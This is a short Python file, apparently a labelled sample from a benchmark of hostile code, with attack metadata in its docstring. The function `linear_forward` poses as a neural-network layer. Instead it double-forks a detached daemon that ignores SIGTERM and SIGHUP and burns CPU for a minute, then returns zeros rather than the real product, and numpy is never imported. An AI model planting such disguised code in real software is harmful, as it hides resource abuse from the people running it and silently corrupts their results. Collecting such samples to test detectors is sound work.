"""A daemon that forgets its parents and its signals.

{"attack": "P40", "class": [15], "base": "bad_a", "level": "sealed", "A": "raised", "B": "passed",
 "C": "passed"}
"""

import os
import signal
import time


def linear_forward(X, W, b):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in (signal.SIGTERM, signal.SIGHUP):
                signal.signal(number, signal.SIG_IGN)
            end = time.time() + 60
            while time.time() < end:
                pass
        os._exit(0)
    return np.zeros((len(X), W.shape[1]))
